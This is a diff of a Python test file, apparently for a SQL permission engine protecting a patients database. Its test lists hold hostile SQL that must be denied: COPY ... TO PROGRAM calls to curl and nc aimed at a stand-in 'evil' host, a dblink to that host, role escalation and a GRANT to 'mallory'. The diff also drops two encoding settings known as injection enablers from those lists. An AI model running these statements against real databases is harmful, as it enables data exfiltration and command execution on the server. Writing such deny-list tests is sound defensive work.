@@ -253,7 +253,6 @@ def test_gateway_setting_is_always_allowed(engine: Engine, ctx: MakeCtx) -> None
     "DO $$ BEGIN PERFORM 1; END $$",
     "COPY scratch TO PROGRAM 'curl evil'",
     "SELECT set_config('role', 'postgres', false)",
-    "SET standard_conforming_strings = off",
     "SELECT * FROM dblink('host=evil', 'SELECT 1') t(a int)",
 ])
 def test_all_does_not_include_dangerous(engine: Engine, ctx: MakeCtx, sql: str) -> None:
@@ -303,8 +302,6 @@ CLINICIAN_BYPASSES = BULK + [
     "DO $$ BEGIN PERFORM 1; END $$",
     "COPY patients TO PROGRAM 'nc evil 9'",
     "COPY (SELECT * FROM patients WHERE id = 1) TO STDOUT",
-    "SET standard_conforming_strings = off",
-    "SET client_encoding = 'SJIS'",
     "GRANT SELECT ON patients TO mallory",
     "CALL p()",
     "LOCK TABLE patients",
